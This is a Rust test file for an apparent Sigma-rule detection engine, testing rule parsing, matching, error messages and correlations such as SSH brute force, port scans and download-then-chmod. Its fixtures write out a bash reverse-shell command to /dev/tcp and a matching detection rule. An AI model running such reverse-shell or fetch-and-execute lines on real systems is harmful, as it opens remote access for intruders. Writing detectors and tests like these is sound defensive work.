//! Whole rules: parsing, routing, matching, and the errors a broken rule gets.

use serde_json::{json, Map, Value};

use super::*;

const REVERSE_SHELL: &str = r#"
title: Bash reverse shell
id: 11111111-2222-3333-4444-555555555555
status: test
author: Vigie tests
level: high
tags:
    - attack.execution
    - attack.t1059.004
logsource:
    product: linux
    category: process_creation
detection:
    selection_image:
        Image|endswith: '/bash'
    selection_cli:
        CommandLine|contains|all:
            - '/dev/tcp/'
            - '>&'
    filter_admin:
        User: 'backup'
    condition: all of selection_* and not 1 of filter_*
"#;

fn event(v: Value) -> Map<String, Value> {
    v.as_object().unwrap().clone()
}

#[test]
fn a_rule_matches_what_it_describes_and_nothing_else() {
    let (rules, errors) = parse_rules(REVERSE_SHELL, "reverse.yml");
    assert!(errors.is_empty(), "{errors:?}");
    let rule = &rules[0];
    assert_eq!(rule.info.title, "Bash reverse shell");
    assert_eq!(rule.info.author, "Vigie tests");
    assert_eq!(rule.info.tags, vec!["attack.execution", "attack.t1059.004"]);
    let hit = event(
        json!({"product": "linux", "category": "process_creation", "Image": "/usr/bin/bash",
        "CommandLine": "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "User": "www-data"}),
    );
    assert!(rule.matches(&hit));
    let mut filtered = hit.clone();
    filtered.insert("User".into(), json!("BACKUP"));
    assert!(
        !rule.matches(&filtered),
        "the filter excludes it (case-insensitive)"
    );
    let mut other_category = hit.clone();
    other_category.insert("category".into(), json!("file_event"));
    assert!(!rule.matches(&other_category), "routed by log source");
    let mut near_miss = hit.clone();
    near_miss.insert("CommandLine".into(), json!("bash -c 'cat /dev/tcp/x'"));
    assert!(!rule.matches(&near_miss), "|all needs every value");
}

#[test]
fn lists_of_maps_keywords_and_null() {
    let text = r#"
title: t
logsource: {product: linux}
detection:
    keywords:
        - 'session opened for user root'
        - 'FAILED SU'
    alternatives:
        - Image: '/bin/su'
        - Image: '/usr/bin/sudo'
          User: null
    condition: keywords or alternatives
"#;
    let (rules, errors) = parse_rules(text, "k.yml");
    assert!(errors.is_empty(), "{errors:?}");
    let rule = &rules[0];
    assert!(rule.matches(&event(
        json!({"product": "linux", "message": "pam: Session opened for user root by x"})
    )));
    assert!(rule.matches(&event(
        json!({"product": "linux", "Image": "/usr/bin/sudo"})
    )));
    assert!(!rule.matches(&event(
        json!({"product": "linux", "Image": "/usr/bin/sudo", "User": "bob"})
    )));
    assert!(!rule.matches(&event(json!({"product": "windows", "Image": "/bin/su"}))));
}

#[test]
fn broken_rules_are_refused_with_file_line_and_reason() {
    let bad_modifier = REVERSE_SHELL.replace("Image|endswith", "Image|endswit");
    let (rules, errors) = parse_rules(&bad_modifier, "bad.yml");
    assert!(rules.is_empty());
    let e = &errors[0];
    assert_eq!(e.origin, "bad.yml");
    assert!(e.reason.contains("\"endswit\""), "{e}");
    assert_eq!(e.line, Some(14), "{e}");

    let (_, errors) = parse_rules("title: x\n  bad: [indent\n", "yaml.yml");
    assert!(
        errors[0].reason.starts_with("not valid YAML"),
        "{}",
        errors[0]
    );
    assert!(errors[0].line.is_some());

    let missing = REVERSE_SHELL.replace("not 1 of filter_*", "not filter_nope");
    let (_, errors) = parse_rules(&missing, "cond.yml");
    assert!(errors[0].reason.contains("filter_nope"), "{}", errors[0]);

    let bad_regex = REVERSE_SHELL.replace("Image|endswith: '/bash'", "Image|re: '(?=x)'");
    let (_, errors) = parse_rules(&bad_regex, "re.yml");
    assert!(
        errors[0].reason.contains("regular expression"),
        "{}",
        errors[0]
    );
}

#[test]
fn an_error_in_a_later_document_names_its_line_in_the_file() {
    let second = REVERSE_SHELL.replace("Image|endswith", "Image|endswit");
    let text = format!("# rules\n{REVERSE_SHELL}---\n{second}");
    let (rules, errors) = parse_rules(&text, "two.yml");
    assert_eq!(rules.len(), 1);
    let before = 1 + REVERSE_SHELL.lines().count() + 1;
    assert_eq!(errors[0].line, Some(before + 14), "{}", errors[0]);
}

#[test]
fn several_documents_in_one_file_load_independently() {
    let text = format!("{REVERSE_SHELL}\n---\ntitle: broken\nlogsource: {{product: linux}}\ndetection: {{condition: x}}\n");
    let (rules, errors) = parse_rules(&text, "multi.yml");
    assert_eq!(rules.len(), 1);
    assert_eq!(errors.len(), 1);
}

mod correlations {
    use super::*;
    use crate::sigma::{assemble, parse_file, Limits};

    const BASE: &str = r#"
title: Failed SSH login
name: ssh_failed
id: aaaaaaaa-0000-0000-0000-000000000001
logsource: {product: linux, service: sshd}
detection:
    sel: {Message|contains: 'Failed password'}
    condition: sel
---
title: Connection
name: conn
id: aaaaaaaa-0000-0000-0000-000000000002
logsource: {product: linux, category: network_connection}
detection:
    sel: {Initiated: 'true'}
    condition: sel
---
title: Download
name: download
logsource: {product: linux, category: process_creation}
detection:
    sel: {Image|endswith: '/curl'}
    condition: sel
---
title: Make executable
name: chmod
logsource: {product: linux, category: process_creation}
detection:
    sel: {CommandLine|contains: 'chmod +x'}
    condition: sel
"#;

    const CORRELATIONS: &str = r#"
title: SSH brute force
name: brute
id: cccccccc-0000-0000-0000-000000000001
level: high
correlation:
    type: event_count
    rules: [ssh_failed]
    group-by: [User]
    timespan: 1m
    condition: {gte: 5}
---
title: Port scan
id: cccccccc-0000-0000-0000-000000000002
correlation:
    type: value_count
    rules: [conn]
    group-by: [SourceIp]
    timespan: 1m
    condition: {field: DestinationPort, gte: 10}
---
title: Download then chmod
id: cccccccc-0000-0000-0000-000000000003
correlation:
    type: temporal_ordered
    rules: [download, chmod]
    group-by: [User]
    timespan: 5m
---
title: Repeated brute force
id: cccccccc-0000-0000-0000-000000000004
correlation:
    type: event_count
    rules: [brute]
    timespan: 1h
    condition: {gte: 2}
"#;

    fn ev(v: Value) -> Map<String, Value> {
        v.as_object().unwrap().clone()
    }

    fn setup(limits: Limits) -> (Vec<crate::sigma::SigmaRule>, crate::sigma::Correlator) {
        let base = parse_file(BASE, "base.yml");
        let corr = parse_file(CORRELATIONS, "corr.yml");
        assert!(
            base.errors.is_empty() && corr.errors.is_empty(),
            "{:?} {:?}",
            base.errors,
            corr.errors
        );
        let (standalone, correlator, errors) = assemble(base.rules, corr.correlations, limits);
        assert!(errors.is_empty(), "{errors:?}");
        (standalone, correlator)
    }

    fn failed(user: &str) -> Map<String, Value> {
        ev(
            json!({"product": "linux", "service": "sshd", "Message": "Failed password for x", "User": user}),
        )
    }

    #[test]
    fn event_count_by_group_within_the_timespan_and_chaining() {
        let (standalone, c) = setup(Limits::default());
        assert_eq!(c.len(), 4);
        // Referenced without `generate: true`: the base rules only feed correlations.
        assert!(standalone.is_empty());
        let ids = |fired: Vec<(std::sync::Arc<crate::RuleInfo>, String, String)>| {
            fired
                .into_iter()
                .map(|(i, _, _)| i.id.clone())
                .collect::<Vec<_>>()
        };
        for i in 0..4 {
            assert!(c.observe(&failed("root"), 1_000 + i).is_empty());
        }
        assert!(c.observe(&failed("bob"), 1_005).is_empty(), "another group");
        let fired = c.observe(&failed("root"), 1_006);
        assert_eq!(
            ids(fired.clone()),
            vec!["cccccccc-0000-0000-0000-000000000001"]
        );
        assert!(fired[0].1.contains("User=root"), "{}", fired[0].1);
        // Too spread out: no alert.
        for i in 0..5 {
            assert!(c.observe(&failed("eve"), 100_000 + i * 20_000).is_empty());
        }
        // A second burst for root within the hour fires the chained correlation too.
        for i in 0..4 {
            c.observe(&failed("root"), 200_000 + i);
        }
        let fired = ids(c.observe(&failed("root"), 200_010));
        assert_eq!(
            fired,
            vec![
                "cccccccc-0000-0000-0000-000000000001",
                "cccccccc-0000-0000-0000-000000000004"
            ]
        );
    }

    #[test]
    fn value_count_and_temporal_ordered() {
        let (_, c) = setup(Limits::default());
        let conn = |port: u64| {
            ev(
                json!({"product": "linux", "category": "network_connection", "Initiated": "true", "SourceIp": "10.0.0.9", "DestinationPort": port}),
            )
        };
        for port in 0..9 {
            assert!(c.observe(&conn(port), 10 + port).is_empty());
        }
        assert!(
            c.observe(&conn(3), 20).is_empty(),
            "a repeated port is not new"
        );
        let fired = c.observe(&conn(9), 21);
        assert!(
            fired[0].1.contains("10 distinct DestinationPort"),
            "{}",
            fired[0].1
        );

        let proc = |image: &str, cmd: &str| {
            ev(
                json!({"product": "linux", "category": "process_creation", "Image": image, "CommandLine": cmd, "User": "www"}),
            )
        };
        assert!(
            c.observe(&proc("/bin/sh", "chmod +x /tmp/a"), 1).is_empty(),
            "wrong order"
        );
        let early = c.observe(&proc("/usr/bin/curl", "curl -o /tmp/a http://x"), 2);
        assert!(early.is_empty(), "{early:?}");
        let fired = c.observe(&proc("/bin/sh", "chmod +x /tmp/a"), 3);
        assert_eq!(fired[0].0.id, "cccccccc-0000-0000-0000-000000000003");
    }

    #[test]
    fn later_steps_alone_keep_no_state_and_cannot_evict_a_started_sequence() {
        let (_, c) = setup(Limits {
            max_groups: 2,
            max_entries: 3,
        });
        let proc = |user: &str, image: &str, cmd: &str| {
            ev(
                json!({"product": "linux", "category": "process_creation", "Image": image, "CommandLine": cmd, "User": user}),
            )
        };
        assert!(c
            .observe(&proc("www", "/usr/bin/curl", "curl -o /tmp/a http://x"), 1)
            .is_empty());
        // Many other users' second steps, with no first step: nothing to remember.
        for (i, user) in ["a", "b", "c", "d", "e"].iter().enumerate() {
            let second = proc(user, "/bin/sh", "chmod +x /tmp/b");
            assert!(c.observe(&second, 2 + i as u64).is_empty());
        }
        assert_eq!(c.evictions().groups, 0, "{:?}", c.evictions());
        let fired = c.observe(&proc("www", "/bin/sh", "chmod +x /tmp/a"), 10);
        assert_eq!(fired[0].0.id, "cccccccc-0000-0000-0000-000000000003");
    }

    #[test]
    fn state_is_bounded_and_evictions_counted() {
        let (_, c) = setup(Limits {
            max_groups: 2,
            max_entries: 3,
        });
        for (i, user) in ["a", "b", "c", "d"].iter().enumerate() {
            c.observe(&failed(user), i as u64);
        }
        for i in 0..5 {
            c.observe(&failed("e"), 10 + i);
        }
        let e = c.evictions();
        assert!(e.groups >= 2, "{e:?}");
        assert!(e.entries >= 2, "{e:?}");
        use crate::Detector;
        assert_eq!(c.take_evictions(), e.groups + e.entries);
        assert_eq!(c.take_evictions(), 0, "each eviction is handed over once");
    }

    #[test]
    fn bad_correlations_are_refused_with_reasons() {
        let bad = CORRELATIONS.replace(
            "timespan: 1m\n    condition: {gte: 5}",
            "timespan: soon\n    condition: {gte: 5}",
        );
        let parsed = parse_file(&bad, "bad.yml");
        assert!(
            parsed.errors[0].reason.contains("soon"),
            "{:?}",
            parsed.errors
        );
        let unknown = "title: x\ncorrelation: {type: event_count, rules: [nope], timespan: 1m, condition: {gte: 1}}\n";
        let parsed = parse_file(unknown, "u.yml");
        let (_, _, errors) = assemble(Vec::new(), parsed.correlations, Limits::default());
        assert!(errors[0].reason.contains("nope"), "{errors:?}");
    }
}

#[test]
fn temporal_correlation_joins_rules_through_aliases() {
    use crate::sigma::{assemble, parse_file, Limits};
    let text = r#"
title: Login
name: login
logsource: {product: linux, service: sshd}
detection: {sel: {Message|contains: 'Accepted'}, condition: sel}
---
title: Sudo
name: sudo
logsource: {product: linux, category: process_creation}
detection: {sel: {Image|endswith: '/sudo'}, condition: sel}
---
title: Login then sudo by the same account
title_fr: Connexion puis sudo par le même compte
id: dddddddd-0000-0000-0000-000000000001
correlation:
    type: temporal
    rules: [login, sudo]
    group-by: [account]
    timespan: 10m
    aliases:
        account:
            login: TargetUser
            sudo: User
"#;
    let parsed = parse_file(text, "alias.yml");
    assert!(parsed.errors.is_empty(), "{:?}", parsed.errors);
    let (_, c, errors) = assemble(parsed.rules, parsed.correlations, Limits::default());
    assert!(errors.is_empty());
    let login = |who: &str| {
        event(
            json!({"product": "linux", "service": "sshd", "Message": "Accepted publickey", "TargetUser": who}),
        )
    };
    let sudo = |who: &str| {
        event(
            json!({"product": "linux", "category": "process_creation", "Image": "/usr/bin/sudo", "User": who}),
        )
    };
    assert!(c.observe(&login("alice"), 0).is_empty());
    assert!(c.observe(&sudo("bob"), 1_000).is_empty(), "another account");
    let fired = c.observe(&sudo("alice"), 2_000);
    assert_eq!(fired.len(), 1);
    assert!(fired[0].1.contains("account=alice"), "{}", fired[0].1);
    // Too late: outside the timespan.
    assert!(c.observe(&login("carol"), 0).is_empty());
    assert!(c.observe(&sudo("carol"), 11 * 60_000).is_empty());
}

#[test]
fn pack_correlations_count_each_host_apart() {
    let engine = crate::Engine::with_builtins();
    let conn = |host: &str, port: u64, seq: u64| vigie_model::Event {
        agent_id: format!("agent-{host}"),
        hostname: host.into(),
        seq,
        ts: 1_000 + seq,
        category: "network_connection".into(),
        fields: event(
            json!({"Initiated": "true", "Image": "/usr/bin/nmap", "DestinationIp": "10.0.0.5", "DestinationPort": port}),
        ),
    };
    let scans = |events: Vec<vigie_model::Event>| {
        events
            .iter()
            .flat_map(|e| engine.evaluate(e))
            .filter(|d| d.rule.id == "1b7e0c2a-4d3f-4e5a-9b6c-7d8e9f0a1b15")
            .count()
    };
    // Ten ports from each of two hosts: no host scanned twenty.
    let spread: Vec<_> = (0..20)
        .map(|i| conn(if i % 2 == 0 { "a" } else { "b" }, i, i))
        .collect();
    assert_eq!(scans(spread), 0);
    let one_host: Vec<_> = (0..20).map(|i| conn("c", 100 + i, 100 + i)).collect();
    assert_eq!(scans(one_host), 1);
}
